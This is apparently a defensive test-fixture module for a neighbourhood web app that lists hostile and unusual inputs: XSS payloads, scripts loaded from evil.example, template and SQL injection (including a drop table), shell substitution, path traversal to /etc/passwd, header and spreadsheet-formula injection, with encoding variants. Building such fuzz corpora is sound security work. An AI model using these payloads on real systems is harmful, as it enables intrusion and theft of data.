# SPDX-FileCopyrightText: Buurt Samen contributors
# SPDX-License-Identifier: EUPL-1.2
"""The place for texts that somebody types who means harm, or whose keyboard we did not think of.

Written by hand, and then put in quotes and coded in the ways in which such texts slip through. Whatever of it runs in
a browser sets `window.__hit`.
"""

import html
import json
import re
from collections.abc import Callable
from itertools import chain
from urllib.parse import quote

_RUN = "window.__hit=1"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script\n>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg/onload={_RUN}>",
    f"<svg onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src=x onerror='{_RUN}'/>",
    f"<IMG SRC=javascript:{_RUN}>",
    f"<img/src/onerror={_RUN}>",
    f"<img srcset=x onerror={_RUN}",
    f"<image src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<iframe onload={_RUN}></iframe>",
    f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}></object>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<button popovertarget=x onbeforetoggle={_RUN}>x</button><p popover id=x>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<p style=animation-name:x onanimationstart={_RUN}>x",
    f"<style>@keyframes x{{}}*{{animation:x}}</style><p onanimationstart={_RUN}>",
    f"<style>*{{background:url(javascript:{_RUN})}}</style>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=stylesheet href=data:text/css,x onload={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='jav&#x09;ascript:{_RUN}'>x</a>",
    f"<a href=data:text/html,<script>{_RUN}</script>>x</a>",
    f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</svg><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" onmouseover="{_RUN}" style="position:fixed;inset:0',
    f"` onmouseover=`{_RUN}",
    f"x onerror={_RUN} y",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"';{_RUN}//",
    f'";{_RUN}//',
    f"\\';{_RUN}//",
    f"</script><svg onload={_RUN}>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"<x onclick={_RUN} tabindex=0 id=inhoud>x",
    f"<input name=csrfmiddlewaretoken form=x onfocus={_RUN}>",
    "<a id=municipality><a id=municipality name=phone href=x>",
    f"[x](javascript:{_RUN})",
    f"[x](<javascript:{_RUN}>)",
    f"![x](x 'onerror={_RUN}')",
    f'[x](x "onmouseover={_RUN}")',
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f"`<script>{_RUN}</script>`",
    f"    <script>{_RUN}</script>",
]


def _words(block: str) -> list[str]:
    """Texts with three spaces or more, or the end of a line, between them."""
    return re.split(r"\s{3,}|\s*\n\s*", block.strip())


TEMPLATES = _words(r"""
    {{ 7|add:7 }}   {{7*7}}   {{ settings.SECRET_KEY }}   {{ request.META }}   {{ block.super }}   {{   {% debug %}
    {% load i18n %}   {% include 'base.html' %}   {% for x in y %}   {% endblock %}   {% url %}   {% verbatim %}
    {# #}   {#   %}   }}   ${7*7}   #{7*7}   <%= 7*7 %>   [[${7*7}]]   @(7*7)   *{7*7}   {municipality}   {phone}
    {value}   {platform.__class__}   {{platform}}   {last_day_to_give!r}
    {{ ''.__class__.__mro__[1].__subclasses__() }}   {{constructor.constructor('window.__hit=1')()}}
""")
QUERIES = _words(r"""
    ' or 1=1 --   " or ""="   ') or ('1'='1   '; drop table rounds_voucher; --   1; select 1   ' union select 1 --
    %' or '1'='1   \'   ''   "   '   `   $$   E'\x00'   /* */   x'; commit; --   0x27   %   _   %%   a & b | !c
    a:*   :*   !   &   |   <->   a <-> b   ()   (((   "open   -   - -   or   OR OR   -or   a OR   * : & | ! ( )
    'a' 'b'   a\:b   a:ABCD   '':*   and not   .   :   \\' & x
""")
QUERIES += ["\\"]
FORMATS = _words(r"""
    %s%s%s%n   %x%x%x%x%x%x%x%x%x%x%x%x%x%x%x%x%x%x%x%x   %(code)s   %d   %c   %99999999s   {0}   {}   {0.__class__}
    {a!r:>99999999}   {:n}   $(id)   `id`   | id   ; id   & id   ${IFS}   %PATH%   $HOME   \n\r\0   \u0000   \x41
    ~root   !!
""")
PATHS = _words(r"""
    ../../../../etc/passwd   ..\..\windows\win.ini   %2e%2e%2f%2e%2e%2fetc/passwd   ..%c0%af..   ....//....//
    file:///etc/passwd   //evil.example/   \\evil.example\x   /\evil.example   ///   /.   .   ..   ./   a/../b
    a//b   ?   #   ?a=b   a?b#c   a;b=c   a&b=c   &   =   +   %   %zz   %u0041   %00   %0a   %0d%0a   %ff
    %ed%a0%80   http://evil.example/   //evil.example%2f@x   x@evil.example   /v/   /v/7K3M-9XQ2-4TBC   v/v/v   con
    nul   .git/config   .env   wp-admin   static/   huisstijl.css   en   nl
""")
PATHS += ["/etc/passwd\x00.svg"]
LINES = [
    *(
        "x\r\nSet-Cookie: a=b",
        "x\r\n\r\n<html>",
        "x\nLocation: //evil.example",
        "Cc: a@evil.example\nBcc: b@evil.example",
    ),
    *(
        "\r",
        "\n",
        "\r\n",
        "x\n\n\ny",
        "\x0b",
        "\x0c",
        "x\u2028y",
        "x\u2029y",
        "x\u0085y",
        "a=b; c=d",
        "a,b",
        ";",
        ",",
        ",,,",
    ),
]
DATA = _words(r"""
    {"a": 1}   []   {}   null   true   NaN   Infinity   1e999   {"__proto__": {"x": 1}}   =1+1   +1+1   -1+1
    @SUM(A1:A9)   =cmd|' /C calc'!A0   =HYPERLINK("http://evil.example")   -1   0   00   1   7   12   99999999
    2147483648   9223372036854775808   1.5   1e9   0x10   1_0   ²   ①   Ⅻ   ௧   ½   𝟘𝟙   −1   +1   1 2   True   None
    undefined   on   heel   saving   later   00000000-0000-0000-0000-000000000000
    {00000000-0000-0000-0000-000000000000}   urn:uuid:00000000000000000000000000000000
    gggggggggggggggggggggggggggggggg   WK000100   wk000100   buurttuin   BUURTTUIN   buurttuin/   7602AB   7602 ab
    7602   0000AA   76O2AB   7K3M-9XQ2-4TBC   7k3m 9xq2 4tbc   ７Ｋ３Ｍ－９ＸＱ２－４ＴＢＣ
    2222-2222-2222   7K3M-9XQ2-4TBO
    ﬁﬁﬁﬁﬁﬁ   ßßßßßß   ::ffff:1.2.3.4   [::1]:80   1.2.3.4:99999   fe80::1%eth0   1.1.1.1, 2.2.2.2   127.0.0.1   ::
    999.1.1.1   unix:   nl;q=abc   en;q=0   *
    nl-NL-x-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa   x-klingon
    en-;q=1   zh-hans   nl,en;q=2   i-default   EN   multipart/form-data   utf-7   utf-16   idna   rot13   base64
    zlib   chunked   -5
""")
DATA += [
    *("[" * 900, '{"a":' * 90, "\t=1+1", "\r=1+1", "1" * 400, "\u0663", "7602\tAB", "a; charset=\x00"),
]
SCRIPTS_OF_THE_WORLD = _words(r"""
    Łukasz Żółć   Ayşe Çağlar   İstanbul ıı   Ñandú   Ελλάδα   Привет   你好   こんにちは   ጤና ይስጥልኝ   Ꮳꮃꭹ   ﷽
    𐍈𐍉   𝕭𝖚𝖚𝖗𝖙   ａｂｃ   ﬃ   ſ   Ⓑⓤⓤⓡⓣ   ǅ   ŉ   ΐ   👍🏽   🇳🇱   �   ำำ
""")
SCRIPTS_OF_THE_WORLD += [
    *("\u0627\u0628\u062f\u0623 \u0627\u0644\u0622\u0646", "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd"),
    *("\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35", "\u0939\u093f\u0928\u094d\u0926\u0940", "\ufdfa"),
    *("\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308"),
    *("0\ufe0f\u20e3", "\U000e0041\U000e007f", "\U0010ffff", "\uffff", "\ufffe", "\ufeffx", "\ud800", "\udc00x"),
    *("x\ud83d", "a\u200bb", "a\u200db", "a\u2060b", "a\xadb", "\xa0", "\u3000", "\u2800", "\u3164", "\u180e"),
    *("\u202egnirts", "\u2066\u202ex\u2069", "\u200fx", "x\u061cy", "\u202a\u202b\u202c\u202d\u202e", "\u2067x"),
    "\u206a",
    "Z\u0338\u0322\u031b\u034e\u0356\u0345a\u0336\u0321\u0353l\u0334\u0328\u0354g\u0337\u0339\u035do\u0338",
    *("e\u0301", "\u0301x", "a" + "\u0300" * 500, "\u1dfa\u0489", "\u0e01\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47"),
    "\u0915\u094d\u200d\u0937",
]
LONG = [
    *("A" * length for length in (40, 41, 60, 61, 80, 81, 130, 131, 200, 255, 256, 4096, 9000)),
    *(sign * 900 for sign in '(\\"<\n-%/é\u200b'),
    *("ß" * 200, "ﷺ" * 200, "\U0001f469\u200d\U0001f467" * 90, "a " * 900, "1 " * 400, "a-" * 400, "a,b" * 300),
    *("&amp;" * 200, "../" * 300, "e\u0301\u0301" * 300),
]
CONTROLS = [f"a{chr(number)}b" for number in (*range(0x00, 0x20), *range(0x7F, 0xA0))]
BLANK = ["", " ", "   ", "\t", "\0", "\0" * 20, "a\0", "\0a"]

# How a text is dressed up: to break out of where it is put, or to be taken for something else on the way.
_DRESSES: list[Callable[[str], str]] = [
    lambda text: quote(text.encode("utf-8", "surrogatepass"), safe=""),
    lambda text: quote(quote(text.encode("utf-8", "surrogatepass"), safe=""), safe=""),
    html.escape,
    lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    lambda text: json.dumps(text)[1:-1],
    lambda text: f'">{text}',
    lambda text: f"'>{text}<'",
    lambda text: f"--></title></textarea></style>{text}<!--",
    lambda text: f"{text[:3]}\0{text[3:]}",
    lambda text: "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text),
]


def texts() -> list[str]:
    """All of them, each once."""
    bare = [
        *chain(SCRIPTS, TEMPLATES, QUERIES, FORMATS, PATHS, LINES, DATA, SCRIPTS_OF_THE_WORLD, LONG, CONTROLS, BLANK)
    ]
    # Two dresses in five on each, so that each dress is worn by many and each text wears some.
    dressed = [
        dress(text)
        for place, text in enumerate(chain(SCRIPTS, TEMPLATES, QUERIES[:20], LINES[:3]))
        for number, dress in enumerate(_DRESSES)
        if (place + number) % 5 in (0, 2)
    ]
    return list(dict.fromkeys(bare + dressed))


def storable(text: str, most: int) -> str:
    """What of it a column of the database takes: no NUL, no half signs, so many characters."""
    return text.replace("\0", "").encode("utf-8", "ignore").decode()[:most]
